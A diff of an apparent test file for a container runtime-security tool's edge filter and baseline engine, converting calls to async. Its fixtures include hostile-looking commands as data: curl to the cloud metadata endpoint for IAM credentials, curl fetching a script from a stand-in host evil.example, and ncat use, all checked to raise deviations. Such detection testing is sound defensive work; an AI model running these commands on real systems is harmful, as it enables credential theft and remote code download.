@@ -24,7 +24,7 @@ spec:
   const f = await fixture({ baselinesDir: dir, resolver });
   t.teardown(() => f.close());
   const start = T0;
-  f.feed(
+  await f.feed(
     exec('/bin/sh', { time: start + 1000, containerStart: start }),
     exec('/usr/sbin/nginx', { time: start + 10 * MIN, containerStart: start }),
     exec('/bin/ncat', { time: start + 11 * MIN, containerStart: start }),
@@ -34,8 +34,8 @@ spec:
     net('egress', { time: start + 13 * MIN, peer: '203.0.113.5', port: 443 }),
     net('listen', { time: start + 14 * MIN, port: 80 }),
   );
-  f.engine.tick(start + 2 * HOUR);
-  const [edge] = f.engine.edgeBaselines([WEB]);
+  await f.engine.unitOfWork.tick(start + 2 * HOUR);
+  const [edge] = (await f.engine.edge.forWorkloads([WEB]));
   t.equal(edge!.phase, 'active');
   t.same(edge!.allow, [
     `i|${DIGEST}`,
@@ -45,8 +45,8 @@ spec:
     'p|/usr/sbin/nginx',
   ]);
   t.comment('left out: /bin/sh (start-up only), /bin/ncat (a deny rule may match), port 25 (denied), the resolved prometheus workload');
-  t.equal(f.engine.edgeBaselines([WEB])[0]!.hash, edge!.hash, 'same content, same hash');
-  t.same(f.engine.edgeBaselines([{ ...WEB, name: 'unknown' }]), [], 'no baseline yet: nothing to filter');
+  t.equal((await f.engine.edge.forWorkloads([WEB]))[0]!.hash, edge!.hash, 'same content, same hash');
+  t.same((await f.engine.edge.forWorkloads([{ ...WEB, name: 'unknown' }])), [], 'no baseline yet: nothing to filter');
 
   // Every key the agent drops is one the collector allows.
   const filter = new EdgeFilter();
@@ -60,10 +60,10 @@ spec:
     net('egress', { time: later, peer: '203.0.113.5', port: 443 }),
     net('egress', { time: later, peer: '203.0.113.5', port: 25 }),
   ];
-  const before = f.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n;
+  const before = f.store.connection.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n;
   const sent = probes.filter((o) => filter.shouldSend(o));
-  f.feed(...probes.filter((o) => !sent.includes(o)));
-  t.equal(f.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n, before, 'what the edge dropped raises nothing centrally');
+  await f.feed(...probes.filter((o) => !sent.includes(o)));
+  t.equal(f.store.connection.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n, before, 'what the edge dropped raises nothing centrally');
   t.equal(sent.length, 3, 'sh in steady state, ncat and port 25 go to the collector');
 });
 
@@ -81,12 +81,12 @@ spec:
   const f = await fixture({ baselinesDir: dir });
   t.teardown(() => f.close());
   const filter = new EdgeFilter();
-  const viaEdge = (...obs: Parameters<typeof f.feed>): void => f.feed(...obs.filter((o) => filter.shouldSend(o)));
-  viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
-  filter.replaceAll(f.engine.edgeBaselines([WEB]));
-  t.equal(f.engine.edgeBaselines([WEB])[0]!.phase, 'learning');
-  t.same(f.engine.edgeBaselines([WEB])[0]!.alwaysSend, ['/usr/bin/curl']);
-  viaEdge(
+  const viaEdge = (...obs: Parameters<typeof f.feed>): Promise<void> => f.feed(...obs.filter((o) => filter.shouldSend(o)));
+  await viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
+  filter.replaceAll(await f.engine.edge.forWorkloads([WEB]));
+  t.equal((await f.engine.edge.forWorkloads([WEB]))[0]!.phase, 'learning');
+  t.same((await f.engine.edge.forWorkloads([WEB]))[0]!.alwaysSend, ['/usr/bin/curl']);
+  await viaEdge(
     exec('/usr/bin/curl', { time: T0 + 1000, args: '-s https://example.com/' }),
     exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
   );
@@ -108,10 +108,10 @@ spec:
   const f = await fixture({ baselinesDir: dir });
   t.teardown(() => f.close());
   const filter = new EdgeFilter();
-  const viaEdge = (...obs: Parameters<typeof f.feed>): void => f.feed(...obs.filter((o) => filter.shouldSend(o)));
-  viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
-  filter.replaceAll(f.engine.edgeBaselines([WEB]));
-  viaEdge(exec('/usr/bin/curl', { time: T0 + 1000, args: '-s http://localhost:8080/healthz' }), exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://evil.example/x.sh' }));
+  const viaEdge = (...obs: Parameters<typeof f.feed>): Promise<void> => f.feed(...obs.filter((o) => filter.shouldSend(o)));
+  await viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
+  filter.replaceAll(await f.engine.edge.forWorkloads([WEB]));
+  await viaEdge(exec('/usr/bin/curl', { time: T0 + 1000, args: '-s http://localhost:8080/healthz' }), exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://evil.example/x.sh' }));
   t.same(deviationList(f), ['process p|/usr/bin/curl high open']);
 });
 
